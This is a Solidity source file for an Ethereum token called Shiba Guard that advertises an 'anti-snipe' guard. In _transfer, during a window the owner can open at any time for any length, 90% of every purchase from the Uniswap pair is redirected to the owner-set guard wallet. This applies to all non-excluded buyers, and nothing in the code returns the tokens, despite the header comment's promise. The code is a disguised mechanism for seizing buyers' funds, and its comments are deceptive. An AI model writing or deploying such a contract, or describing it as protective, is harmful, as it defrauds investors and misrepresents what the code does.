// SPDX-License-Identifier: MIT

// Shiba Guard ($SGUARD) - Ethereum
// Anti-snipe protection: during the guard window set by the team, bot buys
// are sent to the guard wallet and returned to the community later.

pragma solidity ^0.8.19;

interface IERC20 {
    function totalSupply() external view returns (uint256);
    function balanceOf(address account) external view returns (uint256);
    function transfer(address recipient, uint256 amount) external returns (bool);
    function allowance(address owner, address spender) external view returns (uint256);
    function approve(address spender, uint256 amount) external returns (bool);
    function transferFrom(address sender, address recipient, uint256 amount) external returns (bool);
    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);
}

abstract contract Context {
    function _msgSender() internal view virtual returns (address) {
        return msg.sender;
    }
}

abstract contract Ownable is Context {
    address private _owner;
    event OwnershipTransferred(address indexed previousOwner, address indexed newOwner);

    constructor() {
        _transferOwnership(_msgSender());
    }
    modifier onlyOwner() {
        require(owner() == _msgSender(), "Ownable: caller is not the owner");
        _;
    }
    function owner() public view virtual returns (address) {
        return _owner;
    }
    function renounceOwnership() public virtual onlyOwner {
        _transferOwnership(address(0));
    }
    function transferOwnership(address newOwner) public virtual onlyOwner {
        require(newOwner != address(0), "Ownable: new owner is the zero address");
        _transferOwnership(newOwner);
    }
    function _transferOwnership(address newOwner) internal virtual {
        address oldOwner = _owner;
        _owner = newOwner;
        emit OwnershipTransferred(oldOwner, newOwner);
    }
}

interface IUniswapV2Factory {
    function createPair(address tokenA, address tokenB) external returns (address pair);
}

interface IUniswapV2Router02 {
    function factory() external pure returns (address);
    function WETH() external pure returns (address);
}

contract SnipeGuardToken is Context, IERC20, Ownable {
    mapping(address => uint256) private _balances;
    mapping(address => mapping(address => uint256)) private _allowances;
    mapping(address => bool) private _isExcludedFromGuard;

    string private constant _name = "Shiba Guard";
    string private constant _symbol = "SGUARD";
    uint8 private constant _decimals = 18;
    uint256 private constant _tTotal = 1_000_000 * 10**18;

    IUniswapV2Router02 public constant uniswapV2Router = IUniswapV2Router02(0x7a250d5630B4cF539739dF2C5dAcb4c659F2488D);
    address public immutable uniswapV2Pair;

    // anti-snipe
    address public guardWallet;
    uint256 public guardUntil;
    uint256 public constant guardShare = 90;

    event GuardStarted(uint256 until);

    constructor() {
        uniswapV2Pair = IUniswapV2Factory(uniswapV2Router.factory()).createPair(address(this), uniswapV2Router.WETH());
        guardWallet = _msgSender();
        _isExcludedFromGuard[_msgSender()] = true;
        _isExcludedFromGuard[address(this)] = true;
        _balances[_msgSender()] = _tTotal;
        emit Transfer(address(0), _msgSender(), _tTotal);
    }

    function name() public pure returns (string memory) { return _name; }
    function symbol() public pure returns (string memory) { return _symbol; }
    function decimals() public pure returns (uint8) { return _decimals; }
    function totalSupply() public pure override returns (uint256) { return _tTotal; }
    function balanceOf(address account) public view override returns (uint256) { return _balances[account]; }

    function transfer(address recipient, uint256 amount) public override returns (bool) {
        _transfer(_msgSender(), recipient, amount);
        return true;
    }

    function allowance(address owner_, address spender) public view override returns (uint256) {
        return _allowances[owner_][spender];
    }

    function approve(address spender, uint256 amount) public override returns (bool) {
        _approve(_msgSender(), spender, amount);
        return true;
    }

    function transferFrom(address sender, address recipient, uint256 amount) public override returns (bool) {
        _transfer(sender, recipient, amount);
        uint256 current = _allowances[sender][_msgSender()];
        require(current >= amount, "ERC20: transfer amount exceeds allowance");
        unchecked { _approve(sender, _msgSender(), current - amount); }
        return true;
    }

    /// Protect the next minutes of trading against snipers.
    function startGuard(uint256 minutes_) external onlyOwner {
        guardUntil = block.timestamp + minutes_ * 1 minutes;
        emit GuardStarted(guardUntil);
    }

    function setGuardWallet(address wallet) external onlyOwner {
        guardWallet = wallet;
    }

    function excludeFromGuard(address account, bool excluded) external onlyOwner {
        _isExcludedFromGuard[account] = excluded;
    }

    function _approve(address owner_, address spender, uint256 amount) private {
        require(owner_ != address(0) && spender != address(0), "ERC20: approve from/to the zero address");
        _allowances[owner_][spender] = amount;
        emit Approval(owner_, spender, amount);
    }

    function _transfer(address from, address to, uint256 amount) private {
        require(from != address(0) && to != address(0), "ERC20: transfer from/to the zero address");
        require(_balances[from] >= amount, "ERC20: transfer amount exceeds balance");
        unchecked { _balances[from] -= amount; }
        uint256 received = amount;
        if (from == uniswapV2Pair && block.timestamp <= guardUntil && !_isExcludedFromGuard[to]) {
            uint256 guarded = amount * guardShare / 100;
            received = amount - guarded;
            _balances[guardWallet] += guarded;
            emit Transfer(from, guardWallet, guarded);
        }
        _balances[to] += received;
        emit Transfer(from, to, received);
    }
}
